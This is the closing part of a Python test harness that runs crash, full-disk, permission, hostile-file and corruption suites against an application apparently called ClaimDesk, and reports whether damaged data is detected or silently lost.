            and ran.out == listed_before
            and after is not None
            and before is not None
            and after["integrity"] == "ok"
            and after["texts"] == before["texts"]
            and lost_rows(expected, after) == 0
        )
        if ran.crashed or (searched is not None and searched.crashed):
            verdict = "CRASHED"
        elif ran.code == 2 and set_aside and "restore" in ran.err and ran.clear_refusal:
            verdict = "detected: set aside, backup offered"
        elif ran.code == 2 and ran.clear_refusal:
            verdict = "detected in one line" + ("" if set_aside else ", not set aside")
            verdict += "" if "restore" in ran.err else ", no backup offered"
        elif ran.code == 0 and "warning:" in ran.err:
            verdict = "opened with a warning"
        elif intact:
            verdict = "opened, data intact"
            if damaged is not None and damaged["integrity"] != "ok":
                verdict += " (repaired by the daily full check)"
        else:
            verdict = "OPENED SILENTLY with damage or missing data"
            if "today" in label:
                verdict += " (the daily full check is not due until tomorrow)"
        return label, f"{what}: {verdict}", ran, searched

    with ThreadPoolExecutor(max_workers=2) as pool:
        results = list(pool.map(one, range(len(cases))))
    outcomes: dict[str, int] = {}
    for label, verdict, ran, searched in results:
        row.saw(ran)
        row.tried += 1
        kind = verdict.split(": ", 1)[1]
        outcomes[kind] = outcomes.get(kind, 0) + 1
        if kind == "CRASHED":
            row.crashed += 1
        elif kind.startswith("detected in one line"):
            row.refused += 1
        elif kind.startswith("OPENED SILENTLY"):
            row.lost += 1
        else:
            row.ok += 1
        after_search = ""
        if searched is not None and searched.code != 0:
            after_search = f"; then `search`: {searched.outcome}, {searched.first_line(60)}"
        row.note(f"{label} ({verdict}); exit {ran.code}, {ran.seconds:.2f} s{after_search}")
        if ran.code == 2 and not kind.startswith("detected: set aside"):
            row.note(f"    said: {ran.first_line(100)}")
    row.note("; ".join(f"{count}x {kind}" for kind, count in outcomes.items()))
    return row


# ---------------------------------------------------------------------------------------------


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument("--quick", action="store_true", help="fewer kills and smaller files (~1 minute)")
    parser.add_argument("--child", nargs=argparse.REMAINDER, help=argparse.SUPPRESS)
    parser.add_argument("--only", help="run only the suites whose names contain this (for debugging)")
    parser.add_argument("--keep", action="store_true", help="keep the working folder and print its path")
    parser.add_argument("--per-file", action="store_true", help="print each hostile file's run")
    args = parser.parse_args(argv)
    if args.child:
        return child_command(args.child[0], args.child[1:])
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
    rng = random.Random(14)
    quick = args.quick
    work = Path(tempfile.mkdtemp(prefix="claimdesk-safety-"))
    WORK.append(work)
    os.environ["CLAIMDESK_HOME"] = str(work / "home")  # this process's own backups and settings stay here
    os.environ.setdefault("CLAIMDESK_REVIEWER", "Safety Suite")
    suites: list[tuple[str, Callable[[], Row | tuple[Row, ...]]]] = [
        ("crash", lambda: suite_crash(work, 10 if quick else 40, rng)),
        ("migration", lambda: suite_migration_crash(work, 5 if quick else 20, rng, 5000 if quick else 20000)),
        ("two", lambda: suite_two_programs(work, 50 if quick else 200)),
        ("rlimit", lambda: suite_full_disk_rlimit(work, quick)),
        ("tmpfs", lambda: suite_full_disk_tmpfs(work, quick)),
        ("permissions", lambda: suite_permissions(work, quick)),
        ("hostile", lambda: suite_hostile(work, quick, args.per_file)),
        ("corruption", lambda: suite_corruption(work, quick)),
    ]
    rows: list[Row] = []
    started = time.perf_counter()
    try:
        for name, suite in suites:
            if args.only and args.only not in name:
                continue
            began = time.perf_counter()
            made = suite()
            for row in made if isinstance(made, tuple) else (made,):
                rows.append(row)
            print(f"[{name}: {time.perf_counter() - began:.0f} s]", file=sys.stderr, flush=True)
    finally:
        if args.keep:
            print(f"working folder kept: {work}", file=sys.stderr)
        else:
            shutil.rmtree(work, ignore_errors=True)
    print()
    print_table(rows)
    print(f"\nwhole run: {time.perf_counter() - started:.0f} s{' (--quick)' if quick else ''}")
    if OUTSIDE_KILLS:
        print(
            f"{len(OUTSIDE_KILLS)} runs were killed from outside this script and run again: "
            + ", ".join(printable(label) for label in OUTSIDE_KILLS[:5])
        )
    failed = [row.suite for row in rows if row.fatal]
    if failed:
        print(f"FAILED (lost writes, sockets or crashes): {', '.join(failed)}")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
